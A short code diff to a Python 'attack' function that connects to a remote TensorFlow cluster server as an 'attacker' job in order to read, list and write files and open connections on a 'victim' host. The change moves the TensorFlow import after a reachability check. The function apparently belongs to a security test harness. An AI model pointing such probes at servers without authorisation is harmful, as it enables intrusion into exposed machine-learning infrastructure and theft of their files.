@@ -45,19 +45,19 @@ def _short(exc: BaseException) -> str:
 
 def attack(target: str, reads: Sequence[str], lists: Sequence[str], writes: Sequence[str],
            connects: Sequence[int], find: str = "") -> dict[str, Any]:
-    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
-    import tensorflow as tf
-    from tensorflow.python.eager import context
-
     out: dict[str, Any] = {"ran_op": False, "read": {}, "list": {}, "write": {}, "connect": {}}
     victim_host, _, victim_port = target.rpartition(":")
-    try:  # nothing listens there: TF would retry without end, so say so at once
+    try:  # nothing listens there: TF would retry without end, so say so at once (before TF loads)
         socket.create_connection((victim_host, int(victim_port)), timeout=5).close()
     except OSError as exc:
         out["error"] = f"unreachable: {_short(exc)}"
         out["reachable"] = False
         return out
     out["reachable"] = True
+    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
+    import tensorflow as tf
+    from tensorflow.python.eager import context
+
     try:
         tf.config.experimental_connect_to_cluster(tf.train.ClusterSpec({"victim": [target]}), job_name="attacker")
     except Exception as exc:  # noqa: BLE001 - report it: the test decides
